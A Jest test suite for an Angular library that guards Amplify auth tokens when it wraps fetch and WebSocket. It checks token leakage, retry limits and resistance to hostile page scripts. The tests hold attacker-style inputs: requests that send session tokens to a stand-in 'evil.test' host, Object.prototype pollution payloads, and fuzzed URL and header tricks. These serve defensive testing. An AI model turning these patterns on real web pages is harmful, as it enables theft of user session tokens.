import { HttpClient, provideHttpClient, withInterceptors } from '@angular/common/http';
import { HttpTestingController, provideHttpClientTesting } from '@angular/common/http/testing';
import { TestBed } from '@angular/core/testing';
import {
  AuthTokenService,
  TokenGuardOptions,
  tokenGuardInterceptor,
  withSubscriptions,
} from 'amplify-token-guard';
import {
  FakeRealtime,
  FakeTokenSource,
  ManualClock,
  provideTokenGuardTesting,
} from 'amplify-token-guard/testing';
import * as fc from 'fast-check';
import { FakeFetch, FetchCall } from '../../../../spec-helpers/fake-fetch';
import { outcomeOf } from '../../../../spec-helpers/outcome';
import { runs } from '../../../../spec-helpers/runs';
import { textsWithin } from '../../../../spec-helpers/texts-within';
import { connectProtocols, findConnectHeaders, readHeaders } from './appsync-frames';

// The names of these tests are the list items of SECURITY.md. `npm run test:tools` compares them.

const MINUTE = 60_000;
const HOUR = 60 * MINUTE;
const API = 'https://api.example.com/v1';
const BASE = 'https://app.example.com/music/';
const TOKEN_OF_SESSION = /(?:^| )(access|id)-\d+$/;

/** Node.js has no page URL against which a browser resolves URLs. */
const NodeRequest = Request;
class PageRequest extends NodeRequest {
  constructor(input: unknown, init?: RequestInit) {
    super(isGenuine(input) ? input : new URL(String(input), BASE).href, init);
  }
}

function isGenuine(input: unknown): input is Request {
  try {
    NodeRequest.prototype.clone.call(input as Request);
    return true;
  } catch {
    return input instanceof NodeRequest;
  }
}

/** The `WebSocket` of the page. */
class OwnSocket extends EventTarget {
  static opened: OwnSocket[] = [];
  readonly protocols: readonly string[];

  constructor(
    readonly url: string,
    protocols: string | string[] = [],
  ) {
    super();
    this.protocols = [protocols].flat();
    OwnSocket.opened.push(this);
  }
}

/** The keys under which the guard stores data on the window and on its wrappers. */
const KEYS = ['fetch', 'WebSocket'].map((name) => Symbol.for(`amplify-token-guard/${name}`));

const own = { fetch: window.fetch, WebSocket: window.WebSocket };
let browser: FakeFetch;
let clock: ManualClock;
let source: FakeTokenSource;

beforeEach(() => {
  jest.spyOn(Math, 'random').mockReturnValue(0);
  for (const key of KEYS) Reflect.deleteProperty(window, key);
  globalThis.Request = PageRequest;
  browser = new FakeFetch();
  window.fetch = browser.fetch;
  OwnSocket.opened = [];
  window.WebSocket = OwnSocket as unknown as typeof WebSocket;
});

afterEach(() => {
  TestBed.resetTestingModule();
  unlock();
  globalThis.Request = NodeRequest;
  Object.assign(window, own);
});

function start(options: TokenGuardOptions = {}): void {
  TestBed.configureTestingModule({
    providers: [
      provideTokenGuardTesting(options, withSubscriptions()),
      provideHttpClient(withInterceptors([tokenGuardInterceptor])),
      provideHttpClientTesting(),
    ],
  });
  clock = TestBed.inject(ManualClock);
  source = TestBed.inject(FakeTokenSource);
}

async function startSignedIn(options?: TokenGuardOptions): Promise<void> {
  start(options);
  source.signIn();
  await clock.settle();
}

function init(token: string, rest: RequestInit = {}): RequestInit {
  return { headers: { Authorization: token }, ...rest };
}

/** Sends a request that the server rejects. */
async function rejected(...args: Parameters<typeof fetch>): Promise<void> {
  void outcomeOf(fetch(...args));
  await clock.settle();
  browser.last.answer(401);
  await clock.settle();
}

function openSocket(url: string | URL, headers: object): WebSocket {
  return new WebSocket(url, connectProtocols('graphql-ws', JSON.stringify(headers)));
}

function sessionTokenOf({ token }: FetchCall): string | undefined {
  return TOKEN_OF_SESSION.exec(token ?? '')?.[1];
}

describe('G12 what the guard changes in the page', () => {
  it('`window.fetch` is replaced when the app starts, unless `patchFetch` is `false`', async () => {
    await startSignedIn({ patchFetch: false });
    expect(window.fetch).toBe(browser.fetch);
    TestBed.resetTestingModule();
    await startSignedIn();
    expect(window.fetch).not.toBe(browser.fetch);
  });

  it('`window.WebSocket` is replaced if the app uses `withSubscriptions()`, and in development otherwise, only to show a warning', async () => {
    const apiOnly = provideTokenGuardTesting();
    TestBed.configureTestingModule({ providers: [apiOnly] });
    TestBed.inject(FakeTokenSource).signIn();
    await TestBed.inject(ManualClock).settle();
    const warn = jest.spyOn(console, 'warn').mockReturnValue();
    expect(window.WebSocket).not.toBe(OwnSocket);
    expect(openSocket('wss://api.example.com/', { authorization: 'access-1' })).toBe(
      OwnSocket.opened[0],
    );
    expect(warn).toHaveBeenCalledTimes(1);
    TestBed.resetTestingModule();

    await startSignedIn();
    openSocket('wss://api.example.com/', { authorization: 'access-1' });
    expect(OwnSocket.opened).toHaveLength(1);
    expect(TestBed.inject(FakeRealtime).sockets).toHaveLength(0);
    await clock.settle();
    expect(TestBed.inject(FakeRealtime).sockets).toHaveLength(1);
  });

  it('nothing else in the browser is replaced: no other global, and no prototype', async () => {
    const before = snapshotOfGlobals();
    await startSignedIn();
    await rejected(API, init('access-1'));
    openSocket('wss://api.example.com/', { authorization: 'access-1' });
    await clock.settle();
    const after = snapshotOfGlobals();
    const changed = [...after].filter(([name, value]) => !Object.is(before.get(name), value));
    expect(changed.map(([name]) => name).sort()).toEqual([
      'Symbol(amplify-token-guard/WebSocket)',
      'Symbol(amplify-token-guard/fetch)',
      'WebSocket',
      'fetch',
    ]);
  });

  it('a request without a token of the session is passed on with the same arguments, and gets the same response', async () => {
    await startSignedIn();
    for (const args of [
      [API],
      [new URL(API), { method: 'DELETE' }],
      [API, init('Bearer somebody-elses')],
      [new Request(API, init('Basic access-1x'))],
    ] as Parameters<typeof fetch>[]) {
      const outcome = outcomeOf(fetch(...args));
      await clock.settle();
      expect(browser.last.args).toHaveLength(args.length);
      args.forEach((argument, i) => expect(browser.last.args[i]).toBe(argument));
      const answer = browser.last.answer(401);
      expect((await outcome).value).toBe(answer);
    }
    expect(browser.calls).toHaveLength(4);
    expect(source.refreshCount).toBe(0);
  });

  it('a token is never added to a request that has none', async () => {
    await startSignedIn();
    // It has a token when the guard reads it, and none when the browser sends it.
    let reads = 0;
    const headers = {
      get Authorization() {
        return reads++ === 0 ? 'access-1' : 'none';
      },
    };
    await rejected(API, { headers });
    // An object that looks like a Request, but isn't one for the browser.
    const lookAlike = {
      [Symbol.toStringTag]: 'Request',
      url: API,
      headers: new Headers({ Authorization: 'access-1' }),
      clone: () => new Request(API, init('access-1')),
      toString: () => API,
    };
    await rejected(lookAlike as unknown as Request);
    // The browser sends both values as one header.
    const twice: HeadersInit = [
      ['Authorization', 'access-1'],
      ['Authorization', 'none'],
    ];
    await rejected(API, { headers: twice });
    expect(browser.tokens).toEqual(['none', null, 'access-1, none']);
    expect(source.refreshCount).toBe(0);
  });

  it('an access token is replaced by an access token, an ID token by an ID token, and a refresh token by nothing', async () => {
    await startSignedIn();
    await rejected(API, init('access-1'));
    await rejected(`${API}/other`, init('Bearer id-2'));
    await rejected(`${API}/third`, init('refresh-3'));
    expect(browser.tokens).toEqual([
      'access-1',
      'access-2',
      'Bearer id-2',
      'Bearer id-3',
      'refresh-3',
    ]);
  });

  it('a request is retried at most once, and only after a 401 from its own URL', async () => {
    await startSignedIn();
    for (const [status, differing] of [
      [403, {}],
      [500, {}],
      [401, { redirected: true }],
      [401, { url: 'https://api.example.com/elsewhere' }],
    ] as const) {
      const outcome = outcomeOf(fetch(API, init('access-1')));
      await clock.settle();
      const answer = browser.last.answer(status, differing);
      expect((await outcome).value).toBe(answer);
    }
    expect(browser.calls).toHaveLength(4);
    await rejected(API, init('access-1'));
    browser.last.answer(401);
    await clock.settle();
    expect(browser.calls).toHaveLength(6);
  });

  it('neither what the guard stores on the window nor a socket that it returns contains a token', async () => {
    await startSignedIn();
    void outcomeOf(fetch(API, init('access-1')));
    const socket = openSocket('wss://api.example.com/', { authorization: 'access-1' });
    await clock.settle();
    const kept = [
      ...KEYS.flatMap((key) =>
        [window, window.fetch, window.WebSocket].map((at) => Reflect.get(at, key) as unknown),
      ),
      ...Object.values(socket),
      socket.url,
      socket.protocol,
      socket.extensions,
    ];
    // On the window, and on each wrapper.
    expect(kept.slice(0, 6).filter((value) => value !== undefined)).toHaveLength(4);
    const texts = textsHeldBy(kept);
    expect(texts).toContain('graphql-ws');
    expect(texts.filter((text) => /(access|id)-1/.test(text))).toEqual([]);
  });

  it('another script can wrap `fetch` and `WebSocket` before or after the guard, and each of them works as without the other', async () => {
    const seen: string[] = [];
    const wrap = (name: string): void => {
      const { fetch: beneath, WebSocket: Beneath } = window;
      window.fetch = (...args) => {
        seen.push(`${name} fetch`);
        return beneath(...args);
      };
      window.WebSocket = new Proxy(Beneath, {
        construct: (target, given: [string], newTarget) => {
          seen.push(`${name} socket`);
          return Reflect.construct(target, given, newTarget) as WebSocket;
        },
      });
    };
    wrap('before');
    await startSignedIn();
    wrap('after');
    await rejected(API, init('access-1'));
    expect(browser.tokens).toEqual(['access-1', 'access-2']);
    new WebSocket('wss://elsewhere.example.com/');
    expect(OwnSocket.opened).toHaveLength(1);
    expect(seen).toEqual([
      'after fetch',
      'before fetch',
      // The retry of the guard, which is below the other wrapper.
      'before fetch',
      'after socket',
      'before socket',
    ]);
    TestBed.resetTestingModule();
    await fetchOnce('access-2');
    expect(seen.slice(-2)).toEqual(['after fetch', 'before fetch']);
  });

  it('when the app is destroyed, `fetch` and `WebSocket` are restored, or pass everything on below another wrapper', async () => {
    await startSignedIn();
    TestBed.resetTestingModule();
    expect(window.fetch).toBe(browser.fetch);
    expect(window.WebSocket).toBe(OwnSocket);

    await startSignedIn();
    const { fetch: beneath } = window;
    const others: typeof fetch = (...args) => beneath(...args);
    window.fetch = others;
    TestBed.resetTestingModule();
    expect(window.fetch).toBe(others);
    await fetchOnce('access-1');
    expect(browser.calls).toHaveLength(1);
  });

  it('if another script has locked `fetch` or `WebSocket`, the app starts, and a warning in development says what is not guarded', async () => {
    const warn = jest.spyOn(console, 'warn').mockReturnValue();
    lock('fetch', { value: browser.fetch, writable: false });
    lock('WebSocket', {
      get: () => OwnSocket,
      set: () => {
        throw new Error('locked');
      },
    });
    await startSignedIn({ allow: [API] });
    expect(TestBed.inject(AuthTokenService).state().status).toBe('signed-in');
    expect(warn.mock.calls.map(([text]) => /window\.\w+/.exec(String(text))?.[0])).toEqual([
      'window.fetch',
      'window.WebSocket',
    ]);
    await fetchOnce('access-1');
    expect(browser.calls).toHaveLength(1);
    TestBed.resetTestingModule();
    unlock();
    browser.calls.length = 0;
    // The other script locks it in the meantime.
    await startSignedIn();
    const guarded = window.fetch;
    lock('fetch', { value: guarded, writable: false });
    TestBed.resetTestingModule();
    expect(window.fetch).toBe(guarded);
    await fetchOnce('access-1');
    expect(browser.calls).toHaveLength(1);
  });
});

describe('G12 what a script in the page can do', () => {
  it('it can see every token that the page sends, by wrapping `fetch`, `Request`, or `Headers` before or after the guard', async () => {
    await startSignedIn();
    const seen: unknown[] = [];
    const prototype = Object.getPrototypeOf(new Request(API).headers) as Headers;
    jest.spyOn(prototype, 'set').mockImplementation((...args) => void seen.push(args));
    await rejected(API, init('access-1'));
    expect(seen).toEqual([['Authorization', 'access-2']]);
  });

  it('it can exchange an older token of the session for the current one, by sending the older one to its own server', async () => {
    await startSignedIn();
    await rejected('https://evil.test/', init('access-1'));
    expect(browser.calls.map(({ request, token }) => [request.url, token])).toEqual([
      ['https://evil.test/', 'access-1'],
      ['https://evil.test/', 'access-2'],
    ]);
  });

  it('it can remove the guard by installing its own `fetch`, and requests are then those of plain Amplify', async () => {
    await startSignedIn();
    window.fetch = browser.fetch;
    const outcome = outcomeOf(fetch(API, init('access-1')));
    await clock.settle();
    const answer = browser.last.answer(401);
    expect((await outcome).value).toBe(answer);
    expect(browser.calls).toHaveLength(1);
  });
});

describe('G12 what a script in the page cannot do', () => {
  it('it gets no token from the guard in exchange for a string that is not a token of the session', async () => {
    await startSignedIn();
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.constantFrom('access-1', 'id-1', 'access', '-1', ' ', 'Bearer', 'x', '1'), {
          maxLength: 4,
        }),
        async (parts) => {
          const text = parts.join('').trim();
          browser.calls.length = 0;
          clock.sleep(0);
          const call = outcomeOf(fetch(`${API}/${browser.calls.length}`, init(text)));
          await clock.settle();
          const isToken = TOKEN_OF_SESSION.test(text) && /(^| )(access|id)-1$/.test(text);
          const before = source.refreshCount;
          if (!isToken) browser.last.answer(401);
          else browser.last.answer(200);
          await clock.settle();
          await call;
          expect(browser.tokens).toEqual([text === '' ? '' : text]);
          expect(source.refreshCount).toBe(before);
        },
      ),
      { numRuns: runs(300) },
    );
  });

  it('it gets no token after the sign-out, and not the token of the next user', async () => {
    await startSignedIn();
    await source.signOut();
    await clock.settle();
    await rejected(API, init('access-1'));
    source.signIn('second');
    await clock.settle();
    await rejected(API, init('access-1'));
    openSocket('wss://evil.test/', { authorization: 'access-1' });
    await clock.settle();
    expect(browser.tokens).toEqual(['access-1', 'access-1']);
    const sockets = TestBed.inject(FakeRealtime).sockets.map(authorizationOf);
    expect(sockets).toEqual(['access-1']);
    expect(source.refreshCount).toBe(0);
  });

  it('it cannot make the guard send a token to a URL other than that of the request that contained a token, in any spelling', async () => {
    let guarded = 0;
    await fc.assert(
      fc.asyncProperty(anyRequest(), async (plan) => {
        await startSignedIn();
        try {
          const plain = await firstOf(() => browser.fetch(...plan.make()));
          browser.calls.length = 0;
          clock.sleep(plan.ageMs);
          const call = outcomeOf(Promise.resolve().then(() => fetch(...plan.make())));
          await clock.settle();
          const status = browser.calls.length > 0 ? [401, 200] : [];
          for (const [i, code] of status.entries()) {
            browser.calls[i]?.answer(code);
            await clock.settle();
          }
          await call;
          const carrying = browser.calls.filter((sent) => sessionTokenOf(sent));
          for (const sent of carrying) {
            expect(sent.request.url).toBe(plain?.request.url);
            expect(
              plan.authorizations.map((text) => TOKEN_OF_SESSION.exec(text.trim())?.[1]),
            ).toContain(sessionTokenOf(sent));
          }
          expect(browser.calls.length).toBeLessThanOrEqual(2);
          if (carrying.length > 1) guarded++;
        } finally {
          browser.calls.length = 0;
          TestBed.resetTestingModule();
        }
      }),
      { numRuns: runs(1_000) },
    );
    // Otherwise the test has tested nothing.
    expect(guarded).toBeGreaterThan(runs(1_000) / 20);
  });

  it('it cannot make the guard send a token over a socket that was not opened or started with a token', async () => {
    await startSignedIn();
    const realtime = TestBed.inject(FakeRealtime);
    let reads = 0;
    const changing = {
      toString: () => ['wss://first.test/', 'wss://second.test/', 'wss://third.test/'][reads++]!,
    } as unknown as URL;
    openSocket(changing, { authorization: 'access-1' });
    openSocket('wss://keyed.test/', { 'x-api-key': 'key' });
    openSocket('wss://lambda.test/', { authorization: 'access-1x' });
    await clock.settle();
    for (const socket of realtime.sockets) socket.drop();
    await clock.advance(60_000);
    source.otherTabRefreshed();
    await clock.settle();
    realtime.drop();
    await clock.advance(60_000);
    const carrying = realtime.sockets.filter((socket) =>
      TOKEN_OF_SESSION.test(authorizationOf(socket)),
    );
    expect(new Set(carrying.map(({ url }) => url))).toEqual(new Set(['wss://first.test/']));
    expect(carrying.length).toBeGreaterThan(0);
    expect(OwnSocket.opened).toEqual([]);
  });

  it('it cannot change the options, neither with `Object.prototype` nor with the list that the app passed', async () => {
    const allow: (string | { readonly url: string })[] = ['https://api.example.com', { url: API }];
    const polluted = {
      allow: ['https://evil.test'],
      tokenUse: 'id',
      prefix: 'Evil ',
      methods: ['TRACE'],
      authorizationPrefix: 'Bearer ',
      allowAmplifyEndpoints: true,
      url: 'https://evil.test',
    };
    try {
      Object.assign(Object.prototype, polluted);
      await startSignedIn({ allow });
      allow.push('https://evil.test');
      const server = TestBed.inject(HttpTestingController);
      const http = TestBed.inject(HttpClient);
      for (const url of [`${API}/songs`, 'https://evil.test/', 'https://api.example.com/v2']) {
        http.get(url).subscribe();
      }
      await clock.settle();
      const sent = server
        .match(() => true)
        .map(({ request: { url, headers } }) => [url, headers.get('Authorization')]);
      expect(sent).toEqual([
        ['https://evil.test/', null],
        [`${API}/songs`, 'access-1'],
        ['https://api.example.com/v2', 'access-1'],
      ]);
    } finally {
      for (const name of Object.keys(polluted)) Reflect.deleteProperty(Object.prototype, name);
    }
  });

  it('it finds no token in the state, the events, and the errors of the guard', async () => {
    start();
    const values: unknown[] = [];
    const service = TestBed.inject(AuthTokenService);
    service.events$.subscribe((event) => values.push(event));
    service.state$.subscribe((state) => values.push(state));
    source.signIn();
    await clock.settle();
    await rejected(API, init('access-1'));
    browser.last.answer(401);
    source.endNext();
    clock.sleep(HOUR);
    values.push(await outcomeOf(service.getToken().then(() => undefined)));
    await clock.settle();
    const texts = values.flatMap((value) => [...textsWithin(value)]);
    expect(texts).toContain('session-ended');
    expect(texts.filter((text) => /(access|id)-\d/.test(text))).toEqual([]);
  });
});

describe('G12 what HTML and servers can do', () => {
  it('HTML of a user such as `<img name="baseURI">` affects neither where a token is sent nor whether requests are sent', async () => {
    await startSignedIn({ allow: ['/api'] });
    // Browsers define such a property for named elements.
    Object.defineProperty(document, 'baseURI', {
      value: document.createElement('img'),
      configurable: true,
    });
    try {
      await rejected(API, init('access-1'));
      expect(browser.tokens).toEqual(['access-1', 'access-2']);
      openSocket('wss://api.example.com/', { authorization: 'access-2' });
      const http = TestBed.inject(HttpClient);
      for (const url of ['/api/songs', '//evil.test/api']) http.get(url).subscribe();
      await clock.settle();
      expect(TestBed.inject(FakeRealtime).sockets).toHaveLength(1);
      const sent = TestBed.inject(HttpTestingController).match(() => true);
      expect(
        sent.map(({ request: { url, headers } }) => [url, headers.get('Authorization')]),
      ).toEqual([
        ['//evil.test/api', null],
        ['/api/songs', 'access-2'],
      ]);
    } finally {
      Reflect.deleteProperty(document, 'baseURI');
    }
  });

  it('a server that rejects every token gets at most two tokens per request, and causes at most one refresh', async () => {
    await startSignedIn();
    for (let i = 0; i < 20; i++) {
      const { refreshCount } = source;
      const calls = browser.calls.length;
      await rejected(`https://evil.test/${i}`, init(`access-${source.refreshCount + 1}`));
      if (browser.calls.length === calls + 2) browser.last.answer(401);
      await clock.settle();
      expect(browser.calls.length - calls).toBeLessThanOrEqual(2);
      expect(source.refreshCount - refreshCount).toBeLessThanOrEqual(1);
    }
    expect(source.refreshCount).toBeLessThan(5);
  });

  it('the clock of one server does not affect requests to another', async () => {
    await startSignedIn();
    const aheadMs = 5 * MINUTE;
    void outcomeOf(fetch('https://evil.test/', init('access-1')));
    await clock.settle();
    const date = new Date(clock.wallMs() + aheadMs).toUTCString();
    browser.last.answer(401, { headers: { Date: date } });
    await clock.settle();
    // So old that only a server whose clock is ahead would reject it.
    clock.sleep(HOUR - MINUTE / 2 - aheadMs);
    void outcomeOf(fetch(API, init('access-2')));
    void outcomeOf(fetch('https://evil.test/', init('access-2')));
    await clock.settle();
    expect(browser.tokens.slice(-2)).toEqual(['access-2', 'access-3']);
  });
});

async function fetchOnce(token: string): Promise<void> {
  const before = browser.calls.length;
  const outcome = outcomeOf(fetch(API, init(token)));
  await Promise.resolve();
  expect(browser.calls).toHaveLength(before + 1);
  const answer = browser.last.answer(401);
  expect((await outcome).value).toBe(answer);
}

const locked = new Map<string, PropertyDescriptor | undefined>();

function lock(name: 'fetch' | 'WebSocket', as: PropertyDescriptor): void {
  locked.set(name, Object.getOwnPropertyDescriptor(window, name));
  Object.defineProperty(window, name, { ...as, configurable: true });
}

function unlock(): void {
  for (const [name, descriptor] of locked) Object.defineProperty(window, name, { ...descriptor });
  locked.clear();
}

/** All globals, and the prototypes of their classes. */
function snapshotOfGlobals(): Map<string, unknown> {
  const values = new Map<string, unknown>();
  for (const key of Reflect.ownKeys(globalThis)) {
    const value = Object.getOwnPropertyDescriptor(globalThis, key)?.value as unknown;
    values.set(String(key), value);
    const prototype: unknown = typeof value === 'function' ? value.prototype : undefined;
    if (typeof prototype !== 'object' || prototype === null) continue;
    for (const name of Reflect.ownKeys(prototype)) {
      const { value: member, get } = Object.getOwnPropertyDescriptor(prototype, name)!;
      values.set(`${String(key)}.${String(name)}`, (member as unknown) ?? get);
    }
  }
  return values;
}

/**
 * All strings in an object's own properties and those of their values, enumerable or not, without
 * calling anything.
 */
function textsHeldBy(value: unknown, seen = new Set<unknown>()): string[] {
  if (typeof value === 'string') return [value];
  const isHolder = (typeof value === 'object' && value !== null) || typeof value === 'function';
  if (!isHolder || value === window || seen.has(value)) return [];
  seen.add(value);
  return Reflect.ownKeys(value)
    .map((key) => Object.getOwnPropertyDescriptor(value, key)?.value as unknown)
    .flatMap((held) => textsHeldBy(held, seen));
}

function authorizationOf({ protocols }: { readonly protocols: readonly string[] }): string {
  return readHeaders(findConnectHeaders(protocols) ?? '')['authorization'] ?? '';
}

/**
 * Runs `call`, and returns the first request that reaches the browser. Without a URL, there is
 * none.
 */
async function firstOf(call: () => Promise<unknown>): Promise<FetchCall | undefined> {
  const before = browser.calls.length;
  const pending = outcomeOf(Promise.resolve().then(call));
  await clock.settle();
  const first = browser.calls[before];
  first?.answer(200);
  if (first) await pending;
  return first;
}

interface Plan {
  /** The values that the header returns, one for each read. */
  readonly authorizations: readonly string[];
  readonly ageMs: number;
  make(): Parameters<typeof fetch>;
}

const PIECES = [
  ...['https:', 'http:', 'HTTPS:', 'wss:', 'blob:', 'data:', 'javascript:', ':', '443', '8443'],
  ...['/', '//', '\\', '?', '#', '@', '.', '..', '%2e', '%2F', '%00', '\t', ' ', 'user', '。', 'ⓔ'],
  ...['api.example.com', 'app.example.com', 'evil.test', '[::1]', ':4400', '/v1', '/api', 'x'],
];

function anyUrl(): fc.Arbitrary<string> {
  return fc.oneof(
    { weight: 2, arbitrary: fc.constantFrom(API, 'https://evil.test/', '//evil.test/v1', 'v1') },
    fc
      .array(fc.constantFrom(...PIECES), { maxLength: 6 })
      .map((pieces) => `https://${pieces.join('')}`),
    fc.array(fc.constantFrom(...PIECES), { maxLength: 8 }).map((pieces) => pieces.join('')),
  );
}

const anyAuthorization = fc.constantFrom(
  ...['access-1', 'Bearer access-1', 'id-1', ' access-1\t', 'Basic x', 'access-1x', 'access-2'],
);

type InputKind = 'text' | 'URL' | 'object' | 'Request' | 'look-alike';
type HeadersKind = 'record' | 'getter' | 'Headers' | 'list' | 'Map' | 'generator' | 'one-shot';

function anyRequest(): fc.Arbitrary<Plan> {
  return fc
    .record({
      urls: fc.array(anyUrl(), { minLength: 1, maxLength: 3 }),
      authorizations: fc.array(anyAuthorization, { minLength: 1, maxLength: 3 }),
      input: fc.constantFrom<InputKind[]>('text', 'URL', 'object', 'Request', 'look-alike'),
      headers: fc.constantFrom<HeadersKind[]>(
        ...(['record', 'getter', 'Headers', 'list', 'Map', 'generator', 'one-shot'] as const),
      ),
      rest: fc.constantFrom<RequestInit[]>(
        {},
        { method: 'POST', body: 'x' },
        { mode: 'no-cors' },
        { redirect: 'manual' },
      ),
      ageMs: fc.constantFrom(0, HOUR),
    })
    .map(({ urls, authorizations, input, headers, rest, ageMs }) => ({
      authorizations: headers === 'getter' ? authorizations : authorizations.slice(0, 1),
      ageMs,
      make: () => makeArguments(input, urls, { ...rest, ...headersOf(headers, authorizations) }),
    }));
}

function headersOf(kind: HeadersKind, authorizations: readonly string[]): RequestInit {
  const [first = ''] = authorizations;
  const pairs: [string, string][] = [['authorization', first]];
  const iterator = pairs[Symbol.iterator]();
  let reads = 0;
  const made: Record<HeadersKind, () => unknown> = {
    record: () => ({ Authorization: first }),
    getter: () => ({
      get Authorization() {
        return authorizations[reads++ % authorizations.length];
      },
    }),
    Headers: () => new Headers(pairs),
    list: () => pairs,
    Map: () => new Map(pairs),
    generator: () => iterator,
    'one-shot': () => ({ [Symbol.iterator]: () => iterator }),
  };
  return { headers: made[kind]() as HeadersInit };
}

function makeArguments(
  kind: InputKind,
  urls: readonly string[],
  init: RequestInit,
): Parameters<typeof fetch> {
  const [first = ''] = urls;
  let reads = 0;
  const toString = (): string => urls[reads++ % urls.length]!;
  switch (kind) {
    case 'URL':
      return [URL.canParse(first, BASE) ? new URL(first, BASE) : first, init];
    case 'object':
      return [{ toString } as URL, init];
    case 'Request':
      // An invalid request stays invalid.
      return URL.canParse(first, BASE) && !/^[a-z]+:\/\/[^/]*@/i.test(new URL(first, BASE).href)
        ? [new Request(first, init)]
        : [first, init];
    case 'look-alike': {
      const clone = (): Request => new Request('https://evil.test/clone', init);
      const { headers } = init;
      const url = 'https://api.example.com/';
      const tag = { [Symbol.toStringTag]: 'Request' };
      return [{ ...tag, url, headers, clone, toString } as unknown as Request];
    }
    default:
      return [first, init];
  }
}
